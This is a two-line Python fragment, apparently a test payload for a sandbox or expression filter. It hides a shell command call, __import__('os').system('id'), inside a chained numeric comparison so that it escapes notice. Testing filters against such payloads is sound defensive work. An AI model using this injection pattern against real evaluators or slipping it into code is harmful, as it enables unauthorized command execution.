# The payload is in the middle of a comparison.
0 <= __import__("os").system("id") <= 1
